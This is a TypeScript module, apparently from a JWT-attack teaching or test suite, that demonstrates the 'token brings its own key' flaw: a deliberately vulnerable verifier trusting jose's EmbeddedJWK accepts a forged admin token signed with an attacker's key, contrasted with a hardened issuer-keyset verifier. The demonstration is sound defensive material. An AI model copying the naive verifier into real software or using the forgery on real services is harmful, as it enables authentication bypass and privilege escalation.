import {
  createLocalJWKSet,
  EmbeddedJWK,
  exportJWK,
  jwtVerify,
  SignJWT,
} from "jose";
import { type Attack, shoot } from "./attack";
import { ecPair } from "./throw-away-keys";

/** A token that brings the key to check it with. */
export const embeddedJwk: Attack = {
  title: "The token brings its own key",
  move: "The attacker signs with a key of his own, and puts the public half into the header as “jwk”.",
  precondition: "The verifier takes the key from the header.",
  mistake:
    "EmbeddedJWK of jose does exactly that. It is right for DPoP proofs, where the key itself is what is bound, and wrong for access tokens. node-jose did it unasked before 0.11.0.",
  remedy: "Keys come from the issuer’s own set, found by kid.",
  sources: [
    { id: "rfc7515", at: "§ 4.1.3" },
    { id: "rfc8725", at: "§ 3.10" },
    { id: "cve-2018-0114" },
  ],

  async fire() {
    const [issuer, attacker] = await Promise.all([ecPair(), ecPair()]);
    const jwk = await exportJWK(issuer.publicKey);
    const issuerKeys = createLocalJWKSet({
      keys: [{ ...jwk, kid: "2026-11" }],
    });
    async function vulnerableVerify(token: string) {
      // #region naive
      const { payload } = await jwtVerify(token, EmbeddedJWK, {
        algorithms: ["ES256"],
      });
      return payload;
      // #endregion naive
    }
    async function hardenedVerify(token: string) {
      // #region hardened
      const { payload } = await jwtVerify(token, issuerKeys, {
        algorithms: ["ES256"],
      });
      return payload;
      // #endregion hardened
    }
    const doors = { naive: vulnerableVerify, hardened: hardenedVerify };
    const header = { alg: "ES256", kid: "2026-11" };
    const honest = await new SignJWT({ sub: "alice" })
      .setProtectedHeader({ ...header, jwk })
      .sign(issuer.privateKey);
    const own = await exportJWK(attacker.publicKey);
    const forged = await new SignJWT({ sub: "alice", role: "admin" })
      .setProtectedHeader({ ...header, jwk: own })
      .sign(attacker.privateKey);
    return [
      await shoot("owner", "a token of the issuer", honest, doors),
      await shoot("attacker", "own key, own signature", forged, doors),
    ];
  },
};
